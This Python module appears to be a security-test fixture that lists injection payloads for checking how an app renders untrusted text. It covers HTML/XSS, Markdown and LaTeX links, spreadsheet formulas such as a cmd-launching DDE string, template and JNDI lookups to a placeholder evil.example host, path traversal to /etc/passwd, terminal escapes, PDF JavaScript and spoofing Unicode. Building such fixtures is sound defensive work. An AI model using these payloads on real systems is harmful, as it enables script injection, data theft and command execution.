"""Texts that try to become more than text: in a page, a spreadsheet, a PDF, a template, a path or a terminal.

Those that can run set ``window.__ran``, open a dialog or ask ``ELSEWHERE``; elements carry the attribute ``MARK``.
"""

import re
from dataclasses import dataclass

ELSEWHERE = "evil.example"  # RFC 2606: it is nobody's
MARK = "data-ran"
_RUN = "window.__ran=1"
_URL = f"https:{ELSEWHERE}?"  # without the slash that no file name can hold


@dataclass(frozen=True)
class Payload:
    """One such text.

    Attributes:
        kind: where it would run.
        text: as it is written into a name, a tag or a reason.
    """

    kind: str
    text: str

    def named(self, number: int, suffix: str) -> str:
        """Returns it as the name of a file that can be told from others, no slash in it."""
        return f"{self.text[-_LONGEST:].replace('/', _SLASH)} {sign(number)}.{suffix}"

    @property
    def is_plain(self) -> bool:
        """Whether all of its letters can be seen: no control letter, none that turns the direction of writing."""
        return not any(letter < " " or letter in _INVISIBLE or "\x7f" <= letter < "\xa0" for letter in self.text)


_SLASH = "\u2215"
_LONGEST = 200  # letters in the name of a file
_INVISIBLE = "\x7f\u200b\u200e\u200f\u2028\u202a\u202b\u202c\u202d\u202e\u2060\u2066\u2067\u2068\u2069\ufeff"
_HTML = (
    f"<script {MARK}>{_RUN}</script>",
    f"<ScRiPt {MARK} src={_URL}x.js></sCrIpT>",
    f"<scr<script>ipt {MARK}>{_RUN}</scr</script>ipt>",
    f"<img {MARK} src=x onerror={_RUN}>",
    f'"><img {MARK} src=x onerror="alert(1)">',
    f"'><img {MARK} src={_URL}a.png>",
    f"<img {MARK} src=x onerror={_RUN}",
    f"<svg {MARK} onload={_RUN}>",
    f"<svg {MARK}><animate onbegin={_RUN} attributeName=x dur=1s>",
    f'<iframe {MARK} srcdoc="<script>parent.__ran=1</script>"></iframe>',
    f"<iframe {MARK} src=javascript:parent.__ran=1>",
    f"<details {MARK} open ontoggle={_RUN}><summary>a</summary></details>",
    f"<style {MARK}>@import '{_URL}a.css';*{{display:none}}</style>",
    f"<link {MARK} rel=stylesheet href={_URL}a.css>",
    f"<base {MARK} href={_URL}>",
    f'<meta {MARK} http-equiv=refresh content="0;url={_URL}">',
    f"<form {MARK} action={_URL}><button>Save</button></form>",
    f"<a {MARK} href=javascript:{_RUN}>report</a>",
    f"<a {MARK} href='data:text/html,<script>alert(1)</script>'>report</a>",
    f"<object {MARK} data={_URL}a.swf></object>",
    f"<body {MARK} onload={_RUN}>",
    f"<input {MARK} autofocus onfocus={_RUN}>",
    f"<video {MARK}><source onerror={_RUN}></video>",
    f"<math {MARK}><mtext></table><img {MARK} src=x onerror={_RUN}>",
    f"</title></textarea></style></script><img {MARK} src=x onerror={_RUN}>",
    f"<!--><img {MARK} src=x onerror={_RUN}>-->",
    f"&lt;img {MARK} src=x onerror={_RUN}&gt; &amp;amp; &#60;b&#62;",
    f"\\u003cimg {MARK} src=x onerror={_RUN}\\u003e",
    f"%3Cimg {MARK} src=x onerror={_RUN}%3E",
    f"\uff1cimg {MARK} src=x onerror={_RUN}\uff1e",
    f"<\x00img {MARK} src=x onerror={_RUN}>\x00",
    f"<b {MARK}>bold</b><font {MARK} color=red size=7>WARNING</font>",
    "A" * 3000 + f"<img {MARK} src=x onerror={_RUN}>",
)
_MARKDOWN = (
    "**bold** _slanted_ ~~gone~~ `code`",
    f"[report]({_URL})",
    f"![x]({_URL}a.png)",
    f"[report](javascript:{_RUN})",
    f"[report](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== '{MARK}')",
    f"<https://{ELSEWHERE}/a> www.{ELSEWHERE} https://{ELSEWHERE} a@{ELSEWHERE}",
    f"![x][y] [y]: {_URL}a.png",
    "| a | b | |---|---| | 1 | 2 |",
    "| a |\n|---|\n| 1 |",
    "```html <b>x</b> ```",
    "# heading",
    "- item\n\n1. item\n\n> said\n\n---\n\n    code",
    "text[^1] [^1]: note, a-->b, (c) (tm) 1/2",
    "\\*escaped\\* \\<b\\> \\\\",
)
_STREAMLIT = (
    ":red[not flagged] :blue-background[x] :rainbow[y]",
    ":material/home: :small[z] :streamlit: :green-badge[reviewed]",
    ":smile: :warning: :+1: -> <- --",
    "$x^2$ $$\\frac{1}{2}$$",
    f"$\\href{{javascript:{_RUN}}}{{report}}$",
    f"$\\includegraphics{{{_URL}a.png}} \\htmlStyle{{color:red}}{{x}}$",
    f"$$\\href{{{_URL}}}{{x}}$$",
)
_SHEET = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1 \uff0d1 \uff20x",
    "=cmd|' /C calc'!A0",
    f'=HYPERLINK("{_URL}","report")',
    f'=IMPORTXML("{_URL}","//a")',
    '","=1+1","',
    'x"\n=1+1,"y',
    "a,=1+1;=1+1\t=1+1",
    "'=1+1",
)
_TEMPLATE = (
    "{{7*7}} {% x %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%s%n%x {0} {x.__class__}",
    f"${{jndi:ldap://{ELSEWHERE}/a}} $(id) `id` ;id",
)
_PATH = ("../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd", "C:\\con\\nul")
_TERMINAL = (
    "\x1b[31mred\x1b[0m\x1b[2J",
    f"\x1b]8;;https://{ELSEWHERE}\x1b\\report\x1b]8;;\x1b\\",
    "\x9b31m\x07\x08\x7f",
    "\x1b]0;t\x07",
)
_WRITING = (
    "report\u202egnp.exe",
    "\u2066\u2067x\u2069y\u200e",
    "a\u200bb\u2060c\ufeffd",
    "\u2028new\u2029line",
    "\u0430dmin Z\u0351\u036b\u0343",
)
_PDF = (
    "/JavaScript (app.alert(1)) /OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
    ") Tj ET BT (x) Tj",
    "(\\) Tj ET endstream endobj",
    "%PDF-1.7 endobj 9 0 obj << /AA << /O 1 0 R >> /Launch (calc) /URI (x) /EmbeddedFile >> endobj",
    f"<< /Type /Annot /Subtype /Link /A << /S /URI /URI ({_URL}) >> >>",
)
_CHART = (f"<a href='{_URL}' {MARK}>x</a>", "<b>x</b><br><i>y</i><sub>z</sub>", "%{x} %{customdata[0]}<extra></extra>")
_KINDS = {
    "html": _HTML, "markdown": _MARKDOWN, "directive": _STREAMLIT, "sheet": _SHEET, "template": _TEMPLATE,
    "path": _PATH, "terminal": _TERMINAL, "writing": _WRITING, "pdf": _PDF, "chart": _CHART,
}  # fmt: skip

SIGN = re.compile(r"k(\d{3})k")


def sign(number: int) -> str:
    """Returns a word of its own for each payload, by which the places are found that show it."""
    return f"k{number:03d}k"


PAYLOADS = tuple(Payload(kind, text) for kind, texts in _KINDS.items() for text in texts)


def some(count: int) -> tuple[Payload, ...]:
    """Returns that many payloads, evenly over all kinds; all of them where there are no more."""
    count = min(count, len(PAYLOADS))
    return tuple(PAYLOADS[int((step + 0.5) * len(PAYLOADS) / count)] for step in range(count))
